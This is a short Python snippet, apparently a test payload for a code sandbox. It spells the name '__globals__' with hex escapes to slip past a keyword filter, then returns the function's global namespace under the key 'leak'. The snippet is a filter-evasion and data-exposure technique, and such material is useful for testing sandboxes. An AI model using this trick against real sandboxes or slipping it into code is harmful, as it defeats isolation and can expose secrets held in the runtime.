# route: escapes in a text spell a dunder
def execute(testData):
    return {"leak": str(getattr(execute, "\x5f\x5f\x67lobals\x5f\x5f"))}
